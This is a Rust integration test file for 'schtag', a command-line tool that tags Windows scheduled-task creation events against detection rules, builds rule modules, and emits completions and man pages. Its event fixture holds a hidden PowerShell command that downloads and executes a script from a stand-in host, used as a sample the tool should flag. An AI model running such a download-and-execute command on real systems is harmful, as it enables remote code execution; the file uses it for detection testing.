//! The command without any other file.
use super::{Folder, is_whole, schtag_in, stderr, stdout};
use std::path::Path;

/// A task that runs encoded PowerShell.
fn event() -> String {
    let content = "<Task><Actions><Exec><Command>powershell.exe</Command><Arguments>-w hidden -c \
                   IEX (iwr http://203.0.113.9/a)</Arguments></Exec></Actions></Task>";
    let record = serde_json::json!({
        "EventID": 4698, "Channel": "Security", "Computer": "ws-1", "TaskName": "\\T", "TaskContent": content
    });
    record.to_string() + "\n"
}

#[test]
fn tag_report_and_explain_judge_by_the_default_rules() {
    if !is_whole("tag_report_and_explain_judge_by_the_default_rules") {
        return;
    }
    let folder = tempfile::tempdir().unwrap();
    let path = folder.path();
    std::fs::write(path.join("event.json"), event()).unwrap();
    // A module that happens to lie here is not run.
    std::fs::write(path.join("schtag.wasm"), b"not a module").unwrap();
    let assert = schtag_in(path, "tag event.json").assert().success();
    let record: serde_json::Value = serde_json::from_str(&stdout(&assert)).unwrap();
    assert_eq!(record["schtag"]["verdict"], "alert");
    let pack = record["schtag"]["pack"].as_str().unwrap().to_owned();
    assert_eq!(pack.len(), 12);
    let judged_by = format!("rules, pack {pack} (default rules)");
    assert!(stderr(&assert).contains(&judged_by), "{}", stderr(&assert));
    let assert = schtag_in(path, "report event.json -o report.html").assert().success();
    assert!(stderr(&assert).contains(&judged_by), "{}", stderr(&assert));
    let page = std::fs::read_to_string(path.join("report.html")).unwrap();
    assert!(page.contains("<b>1</b>alerts") && page.contains(&judged_by), "{page}");
    let assert = schtag_in(path, "explain event.json").assert().success();
    assert!(stdout(&assert).contains("alert, severity"), "{}", stdout(&assert));
    assert!(stdout(&assert).contains(&pack), "{}", stdout(&assert));
}

#[test]
fn check_and_bake_take_the_default_rules() {
    if !is_whole("check_and_bake_take_the_default_rules") {
        return;
    }
    let folder = tempfile::tempdir().unwrap();
    let assert = schtag_in(folder.path(), "check --json").assert().success().stderr("");
    let report: serde_json::Value = serde_json::from_str(&stdout(&assert)).unwrap();
    let rules = report["rules"].as_array().unwrap();
    assert!(rules.len() >= 70);
    let cases: usize = rules.iter().map(|rule| rule["cases"].as_array().unwrap().len()).sum();
    assert!(cases > 300, "{cases} cases");
    schtag_in(folder.path(), "bake -o default.wasm").assert().success();
    // The same as of the folder that they are made of.
    let rules = Path::new(env!("CARGO_MANIFEST_DIR")).join("../plugin/rules");
    schtag_in(folder.path(), "bake -o folder.wasm").arg("--rules").arg(rules).assert().success();
    let read = |name: &str| std::fs::read(folder.path().join(name)).unwrap();
    assert!(read("default.wasm") == read("folder.wasm"));
}

#[test]
fn rules_and_a_module_replace_the_default_ones_and_the_summary_says_so() {
    if !is_whole("rules_and_a_module_replace_the_default_ones_and_the_summary_says_so") {
        return;
    }
    let folder = Folder::new();
    folder.write("event.json", event().as_bytes());
    std::fs::create_dir(folder.path("mine")).unwrap();
    folder.write("mine/any.yml", b"title: Any\nid: 60d5087d-4140-4c5a-8fbe-f6d946845cd6\n\
        logsource: {product: windows, service: security}\ndetection: {s: {TaskName|contains: T}, condition: s}\nlevel: low\n");
    // The variable names a module, and gives way to what is said on the command line.
    let assert = folder.schtag("tag --rules mine event.json").assert().success();
    let record: serde_json::Value = serde_json::from_str(&stdout(&assert)).unwrap();
    assert_eq!(record["schtag"]["rules"][0]["title"], "Any");
    assert_eq!(record["schtag"]["rules"].as_array().unwrap().len(), 1);
    assert!(stderr(&assert).contains("with 1 rules, pack "), "{}", stderr(&assert));
    assert!(stderr(&assert).contains("(rules of mine)"), "{}", stderr(&assert));
    folder.schtag("report --rules mine event.json -o r.html").assert().success();
    let page = std::fs::read_to_string(folder.path("r.html")).unwrap();
    assert!(page.contains("(rules of mine)") && page.contains("Any"), "{page}");
    let assert = folder.schtag("tag --module schtag.wasm --stats json event.json").assert().success();
    let summary: serde_json::Value = serde_json::from_str(&stderr(&assert)).unwrap();
    assert!(summary["judged_by"].as_str().unwrap().ends_with("(module schtag.wasm)"), "{summary}");
    let assert = folder.schtag("tag --rules missing event.json").assert().code(3);
    assert!(stderr(&assert).contains("missing: cannot be read"), "{}", stderr(&assert));
}

#[test]
fn shells_and_man_get_every_subcommand() {
    let folder = tempfile::tempdir().unwrap();
    for shell in ["bash", "zsh", "fish", "powershell", "elvish"] {
        let assert = schtag_in(folder.path(), &format!("completions {shell}")).assert().success().stderr("");
        for word in ["explain", "only-tagged", "forward"] {
            assert!(stdout(&assert).contains(word), "{shell} should complete {word}");
        }
    }
    let assert = schtag_in(folder.path(), "man").assert().success().stderr("");
    assert!(stdout(&assert).starts_with(".ie \\n(.g .ds Aq") && stdout(&assert).contains("Exit codes"));
    schtag_in(folder.path(), "man -o pages").assert().success().stdout("");
    for page in ["schtag", "schtag-tag", "schtag-explain", "schtag-man"] {
        let text = std::fs::read_to_string(folder.path().join(format!("pages/{page}.1"))).unwrap();
        assert!(text.contains(&format!(".TH {page} 1")), "{page}: {text}");
    }
    let tag = std::fs::read_to_string(folder.path().join("pages/schtag-tag.1")).unwrap();
    assert!(tag.contains("only\\-tagged") && tag.contains("Examples:"), "{tag}");
}
